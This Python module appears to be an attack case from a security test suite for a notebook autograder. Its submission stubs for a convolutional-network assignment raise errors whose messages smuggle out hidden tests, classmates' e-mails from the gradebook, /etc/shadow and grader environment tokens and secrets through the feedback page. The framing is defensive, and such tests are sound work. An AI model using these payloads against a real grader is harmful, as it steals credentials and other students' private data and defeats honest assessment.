"""Smuggle the secrets into its own feedback page through the failure messages.

Nothing is implemented: each function raises an exception whose one-line message is a
piece of what the kernel can read: the hidden tests (from the source notebook, from the
gradebook's cell table, from the kernel's own input history), the classmates' e-mails
from the gradebook, /etc/shadow, the grader's environment. The feedback page quotes each
failing test's message, and the student receives the page.
Without protection: the hidden tests and the classmates' data in the student's hands.
"""
from ._loot import LOOT

BASE = "release"
EXPECT = set()


def _leaks(name, args, expression):
    return f'''def {name}({args}):
    text = str({expression})
    raise AssertionError(" | ".join(line.strip() for line in text.split("\\n") if line.strip())[:290])
'''


ANSWERS = {
    "zero_pad": LOOT + "\n\n" + _leaks("zero_pad", "X, pad",
                                       '_loot()["source notebook"].split("### BEGIN HIDDEN TESTS", 2)[-1].replace("\\\\n", "\\n")'),
    "conv_single_step": _leaks("conv_single_step", "a_slice_prev, W, b", '_loot()["gradebook"]["students"]'),
    "conv_forward": _leaks("conv_forward", "A_prev, W, b, hparameters",
                           '[c for c in _loot()["history"] if "class _CnnGradingKit" in c][0].split("def check_zero_pad")[1]'),
    "pool_forward": _leaks("pool_forward", 'A_prev, hparameters, mode="max"', '_loot()["shadow"]'),
    "conv_backward": _leaks("conv_backward", "dZ, cache",
                            '{k: v for k, v in _loot()["environment"].items() if "TOKEN" in k or "SECRET" in k}'),
    "create_mask_from_window": _leaks("create_mask_from_window", "x",
                                      '[v for v in _loot()["parent environment"].split(chr(0)) if "TOKEN" in v]'),
    "distribute_value": _leaks("distribute_value", "dz, shape",
                               '[s for n, s in _loot()["gradebook"]["cells"] if n == "test_zero_pad"][0].split("HIDDEN TESTS")[1]'),
    "pool_backward": _leaks("pool_backward", 'dA, cache, mode="max"',
                            '[c for c in _loot()["history"] if "check_pool_backward" in c][-1].split("def check_pool_backward")[-1]'),
}
